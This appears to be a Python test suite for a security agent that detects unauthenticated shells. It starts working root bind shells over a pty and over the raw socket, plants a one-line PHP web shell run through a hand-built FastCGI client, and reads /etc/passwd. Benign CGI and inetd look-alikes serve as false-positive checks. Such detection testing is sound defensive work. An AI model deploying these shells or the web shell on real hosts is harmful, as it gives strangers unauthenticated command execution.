"""Shells that no login explains, each beside what looks like one and is none."""
import os
import subprocess
import sys
import threading
import time
from urllib.parse import quote

from cases import case
from harness import brief, check
from sandbox import run, wait_for

ID = "access.shell_without_auth"
ports = iter(range(4400, 4500))
lock = threading.Lock()

# accept, then a shell on a pty of its own that this process relays
PTY_SPAWN = """import os, pty, socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen(); c, a = s.accept()
for i in (0, 1, 2): os.dup2(c.fileno(), i)
pty.spawn(['/bin/sh'])"""

# accept, then a shell whose stdin and stdout are the connection (what nc -e does)
EXEC_SHELL = """import os, socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen(); c, a = s.accept()
for i in (0, 1, 2): os.dup2(c.fileno(), i)
os.execv('/bin/sh', ['sh'])"""

# a small web server that answers each request by a script behind pipes (CGI)
CGI = """import socket, subprocess, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen()
while True:
    c, a = s.accept(); c.recv(4096)
    c.sendall(subprocess.run(['/bin/sh', '-c', 'id; date; sleep 6; uname; hostname'],
                             stdin=subprocess.DEVNULL, capture_output=True).stdout)
    c.close()"""

# what inetd does for a service that is a script
INETD_SCRIPT = """import os, socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen()
while True:
    c, a = s.accept()
    if os.fork() == 0:
        for i in (0, 1, 2): os.dup2(c.fileno(), i)
        os.execv('/bin/sh', ['sh', '-c', 'read x; date; id; uname'])
    c.close(); os.wait()"""

# a client in the outside: says each line, waits, and prints what came
TALK = """import socket, sys, time
c = socket.create_connection((sys.argv[2], int(sys.argv[3])), 10, (sys.argv[1], 0))
c.settimeout(0.3); got = b''
for line in sys.argv[4:]:
    wait, _, words = line.partition(':')
    time.sleep(float(wait)); c.sendall(words.encode() + b'\\n')
    try: got += c.recv(65536)
    except OSError: pass
time.sleep(0.5)
try: got += c.recv(65536)
except OSError: pass
sys.stdout.buffer.write(got)"""


class Server:
    def __init__(self, w, program):
        with lock:
            self.port = next(ports)
        self.proc = subprocess.Popen(
            w.net.inside_ns(w.net.srv, [sys.executable, "-c", program, str(self.port)]),
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}, start_new_session=True)
        wait_for("a listener on %d" % self.port, self.listens)

    def listens(self):
        with open("/proc/%d/net/tcp" % self.proc.pid) as f:
            return (":%04X " % self.port) in f.read()

    def stop(self):
        self.proc.kill()
        self.proc.wait()


def talk(w, port, *lines):
    source = w.net.address(w.outside(w.slice()))
    p = run(w.net.inside_ns(w.net.ext, [sys.executable, "-c", TALK, source, w.server, str(port),
                                        *lines]), check=False, timeout=60)
    return source, p.stdout


def told_of(w, source):
    return [a for a in w.agent.told()
            if a["detection"] == ID and a.get("origin", {}).get("address") == source]


@case("journal")
def shell_relayed_by_a_pty(w):
    s = Server(w, PTY_SPAWN)
    source, got = talk(w, s.port, "1:id", "3:ssh -o BatchMode=yes -o ConnectTimeout=3 10.20.0.2",
                       "3:exit")
    check(b"uid=0" in got, "the shell works", got)
    a = w.agent.alert(detection=ID, origin__address=source)
    check(a["severity"] == "critical", "severity", a)
    check(str(s.port) in a["sentence"] and "root" in a["sentence"], "port and user", a)
    check(a["session"], "a session that is followed", a)
    x = w.agent.session(origin__address=source, test=lambda x: x["commands_total"] >= 2)
    check(x["method"] == "none" and x["account"] == "root", "who", x)
    s.stop()


@case("journal")
def shell_that_is_the_connection(w):
    s = Server(w, EXEC_SHELL)
    source, got = talk(w, s.port, "1:id", "3:uname -a", "3:id", "1:exit")
    check(b"uid=0" in got, "the shell works", got)
    a = w.agent.alert(detection=ID, origin__address=source)
    check(a["severity"] == "critical" and "connection itself" in a["sentence"], "which kind", a)
    s.stop()


@case("journal")
def cgi_behind_pipes_is_no_shell(w):
    s = Server(w, CGI)
    source, got = talk(w, s.port, "0:GET / HTTP/1.0\r\n", "7:")
    check(b"uid=0" in got, "the script ran", got)
    w.settle()
    check(not told_of(w, source), "CGI: " + brief(told_of(w, source)))
    s.stop()


@case("journal")
def inetd_script_is_no_shell(w):
    s = Server(w, INETD_SCRIPT)
    source, got = talk(w, s.port, "0:hello", "1:")
    check(b"uid=0" in got, "the script ran", got)
    time.sleep(6)  # the grace that a shell on a connection has
    w.settle()
    check(not told_of(w, source), "inetd: " + brief(told_of(w, source)))
    s.stop()


@case("journal")
def connection_without_a_shell_is_nothing(w):
    s = Server(w, "import socket,sys,time\ns=socket.socket();s.bind(('0.0.0.0',int(sys.argv[1])))\n"
                  "s.listen()\nc,a=s.accept()\nwhile c.recv(100): pass")
    source, _ = talk(w, s.port, "0:id", "3:ls", "3:exit")
    w.settle()
    check(not told_of(w, source), brief(told_of(w, source)))
    s.stop()


# --- servers that have a shell run something

SITE = "/run/og/site"

# One request to a FastCGI server (FastCGI 1.0, sections 3 and 5), from a chosen address.
FASTCGI = """import socket, struct, sys
source, to, port, script, query = sys.argv[1:6]
def record(kind, data): return struct.pack('>BBHHBB', 1, kind, 1, len(data), 0, 0) + data
def pair(k, v): k, v = k.encode(), v.encode(); return bytes([len(k), len(v)]) + k + v
params = b''.join(pair(*p) for p in (('SCRIPT_FILENAME', script), ('REQUEST_METHOD', 'GET'),
                                     ('QUERY_STRING', query), ('REDIRECT_STATUS', '200')))
c = socket.create_connection((to, int(port)), 10, (source, 0))
c.sendall(record(1, struct.pack('>HB5x', 1, 0)) + record(4, params) + record(4, b'') +
          record(5, b''))
got = b''
while True:
    d = c.recv(65536)
    if not d: break
    got += d
sys.stdout.buffer.write(got)"""


class Php:
    """A real PHP that serves FastCGI as www-data, with a page that a stranger has left."""

    def __init__(self, w):
        with lock:
            self.port = next(ports)
        os.makedirs(SITE, exist_ok=True)
        os.chmod(SITE, 0o755)
        with open(SITE + "/left.php", "w") as f:
            f.write("<?php system($_GET['c']);")
        self.proc = subprocess.Popen(w.net.inside_ns(w.net.srv, [
            "setpriv", "--reuid=www-data", "--regid=www-data", "--clear-groups",
            "php-cgi8.2", "-b", "0.0.0.0:%d" % self.port]), stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            env={"PATH": "/usr/bin:/bin", "PHP_FCGI_CHILDREN": "2"})
        wait_for("php to listen", self.listens)

    def listens(self):
        check(self.proc.poll() is None, "php-cgi ended")
        with open("/proc/%d/net/tcp" % self.proc.pid) as f:
            return ":%04X 00000000:0000 0A" % self.port in f.read()

    def ask(self, w, source, command):
        return run(w.net.inside_ns(w.net.ext, [
            sys.executable, "-c", FASTCGI, source, w.server, str(self.port), SITE + "/left.php",
            "c=" + quote(command)])).stdout

    def stop(self):
        self.proc.terminate()
        self.proc.wait(30)


def by_server(w, **want):
    return [a for a in w.agent.told(detection="activity.remote_shell", **want)
            if a.get("reason") == "webshell"]


@case("journal")
def a_page_that_runs_commands(w):
    php = Php(w)
    source = w.net.address(w.outside(w.slice()))
    check(b"uid=" in php.ask(w, source, "id -un 2>&1; id"), "the page works")
    a = w.agent.alert(detection="activity.remote_shell", account="www-data", reason="webshell")
    check(a["severity"] == "medium" and a["origin"]["address"] == source, "how bad, who asked", a)
    for part in ("php-cgi", source, "id -un"):
        check(part in a["sentence"], "the sentence lacks " + part, a)
    php.ask(w, source, "cat /etc/passwd")
    w.settle()
    check(len({x["id"] for x in by_server(w, account="www-data")}) == 1, "one alert an account")
    php.stop()


# calls itself by a server's name and has a shell run something
NAMED = """import ctypes, subprocess, sys
ctypes.CDLL(None).prctl(15, sys.argv[1].encode(), 0, 0, 0)
subprocess.run(['/bin/sh', '-c', sys.argv[2]])"""


@case("journal")
def shells_of_no_such_server_are_nothing(w):
    name, _ = w.users.add("nosrv")
    user = ["setpriv", "--reuid=" + name, "--regid=" + name, "--clear-groups"]
    before = {x["id"] for x in by_server(w)}
    run([sys.executable, "-c", NAMED, "apache2", "echo piped-log; sleep 0.1"])  # as root: its logs
    run(user + [sys.executable, "-c", NAMED, "apache3", "echo no-server; sleep 0.1"])
    run(user + ["/bin/sh", "-c", "sh -c 'id; sleep 0.1'; sleep 0.1"])
    w.settle()
    found = [x for x in by_server(w) if x["id"] not in before and x["account"] in ("root", name)]
    check(not found, brief(found))
